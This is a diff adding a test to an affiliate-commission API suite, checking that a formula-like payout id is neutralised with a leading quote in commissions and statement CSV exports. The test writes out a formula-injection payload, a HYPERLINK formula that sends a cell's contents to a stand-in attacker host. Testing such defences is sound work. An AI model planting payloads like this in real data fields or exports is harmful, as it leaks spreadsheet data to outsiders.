@@ -93,3 +93,27 @@ test('names and notes with control characters (LF, CR, CRLF, tab) are refused wi
   const current = (await affiliates.get('/affiliates', { id: affiliate.id }).expect(200)).body;
   expect(current).toMatchObject({ firstName: affiliate.firstName, lastName: affiliate.lastName, payoutDetails: null });
 });
+
+test('a payout id of the integrator\'s own (PUT /sales) that starts like a formula is defused in the commissions CSV and in the statement CSV, as a cell and inside the description', async () => {
+  const programId = newProgramId();
+  const sales = world.api(world.sale, programId);
+  await world.api(world.affiliate, programId).post('/commission-plans', { name: 'Now', commissionType: 'PERCENTAGE', rate: 20, recurring: 'FOREVER', holdDays: 0, isDefault: true }).expect(200);
+  const affiliate = await createAffiliate(world, programId);
+  const referral = await createReferral(world, programId, { affiliateId: affiliate.id });
+  const sale = (await sales.post('/sales', { referralId: referral.id, totalEarned: 100 }).expect(200)).body as { id: string };
+  const payoutId = '=HYPERLINK("http://evil.example/?"&A2)';
+  await sales.put('/sales', { saleId: sale.id, payoutId, payoutCreated: true }).expect(200);
+
+  const commissions = await sales.get('/commissions').query({ format: 'csv' }).expect(200);
+  const [commission] = expectNoFormulaStart(commissions.text, ['id', 'sale_id', 'affiliate_id', 'amount', 'currency', 'status', 'available_at', 'adjusts', 'payout_id', 'sale_created_at']);
+  expect(commission?.payout_id).toBe(`'${payoutId}`);
+
+  const from = new Date(Date.now() - 86_400_000).toISOString();
+  const statement = await sales.get('/affiliates/statement').query({ affiliateId: affiliate.id, currency: 'USD', from, format: 'csv' }).expect(200);
+  // The amounts are numbers (a PAID_OUT one is negative): the text cells are what must not start a formula.
+  const rows = parse(statement.text, { columns: true }) as Record<string, string>[];
+  for (const row of rows) for (const text of [row.payout_id, row.description]) expect(text).not.toMatch(FORMULA);
+  const paidOut = rows.find((row) => row.type === 'PAID_OUT');
+  expect(paidOut?.payout_id).toBe(`'${payoutId}`);
+  expect(paidOut?.description).toBe(`paid outside the payout runs (payout ${payoutId}), marked by PUT /sales`);
+});
